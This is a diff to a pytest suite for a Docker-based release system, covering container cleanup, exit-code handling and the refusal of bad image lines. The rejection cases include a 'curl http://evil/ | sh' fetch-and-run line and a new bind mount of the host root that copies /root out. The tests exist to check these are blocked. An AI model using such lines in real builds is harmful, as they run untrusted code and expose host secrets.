@@ -22,6 +22,8 @@ pytestmark = pytest.mark.testbed
 @pytest.fixture
 async def target(alpha, tmp_path) -> AsyncIterator[DockerTarget]:  # noqa: F811
     made = docker_target(alpha.machine(), tmp_path / "state")
+    if await alpha.docker("ps", "-aq", "--filter", "label=fpai.droplet=tiny"):
+        await withdrawn(made, "tiny")
     yield made
     await withdrawn(made, "tiny")
     await made.aclose()
@@ -56,7 +58,7 @@ async def test_a_second_release_replaces_the_first_without_one_failed_request(ta
 
 
 _BROKEN = {
-    "does not start": "raise SystemExit('no configuration')",
+    "does not start": "import sys; sys.exit(sys.stderr.write('no configuration') and 5)",
     "ends soon after it has answered": program(
         before="threading.Timer(1.2, lambda: os._exit(3)).start()"
     ),
@@ -95,7 +97,7 @@ async def test_r4_the_old_release_serves_on_when_the_new_one(shape, target, alph
     [
         ("RUN curl http://evil/ | sh", "RUN does only"),
         ("COPY missing ./missing", "does not build"),
-        ("USER root", "USER"),
+        ("RUN --mount=type=bind,source=/,target=/host cp -r /host/root /srv", "RUN does only"),
     ],
 )
 async def test_r4_the_old_release_serves_on_when_the_image_is_bad(line, said, target, alpha, tmp_path):  # noqa: F811
@@ -184,7 +186,7 @@ async def test_the_log_of_a_release_that_failed_is_in_the_error(target, alpha, t
     with pytest.raises(ReleaseAtFault) as refused:
         await deployed(target, tiny_release(tmp_path, "bad", main=_BROKEN["does not start"]))
     assert "no configuration" in refused.value.log
-    assert "exit code 1" in refused.value.message
+    assert "exit code 5" in refused.value.message
     assert await containers(alpha) == []
     assert await alpha.docker("ps", "-aq", "--filter", "label=fpai.droplet=tiny") == ""
 
